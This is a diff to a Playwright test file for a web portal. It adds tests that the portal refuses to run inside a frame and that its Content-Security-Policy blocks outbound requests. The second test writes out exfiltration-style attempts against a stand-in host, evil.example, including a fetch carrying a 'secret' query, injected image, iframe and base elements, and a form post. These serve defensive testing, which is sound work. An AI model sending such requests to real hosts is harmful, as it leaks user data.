@@ -54,3 +54,32 @@ test('the portal works in a folder, and signing in returns there', async ({ page
   await portal.signOut();
   await expect(page).toHaveURL(new RegExp(`^${world.inFolder.url}`));
 });
+
+test('the portal does not run in a frame of another page', async ({ page, world }) => {
+  await page.route('https://frame.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe title="portal" src="${world.demo.url}"></iframe>` }),
+  );
+  await page.goto('https://frame.example/');
+  const frame = page.frameLocator('iframe');
+  await expect(frame.getByText('does not run inside another page')).toBeVisible();
+  await expect(frame.getByRole('heading', { level: 1 })).toHaveCount(0);
+});
+
+test('the page reaches no host but its own, the sign-in and Graph', async ({ demo, page, watch }) => {
+  await demo.open();
+  const blocked = await page.evaluate(async () => {
+    const blocked = [];
+    document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
+    await fetch('https://evil.example/?secret').catch(() => {});
+    const parts = { img: { src: 'https://evil.example/x.png' }, iframe: { src: 'https://evil.example/' }, base: { href: 'https://evil.example/' } };
+    for (const [name, members] of Object.entries(parts)) document.body.append(Object.assign(document.createElement(name), members));
+    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
+    document.body.append(form);
+    form.submit();
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    return blocked;
+  });
+  expect(blocked).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'frame-src', 'base-uri', 'form-action']));
+  expect(watch.problems).not.toEqual([]);
+  watch.problems.length = 0;
+});
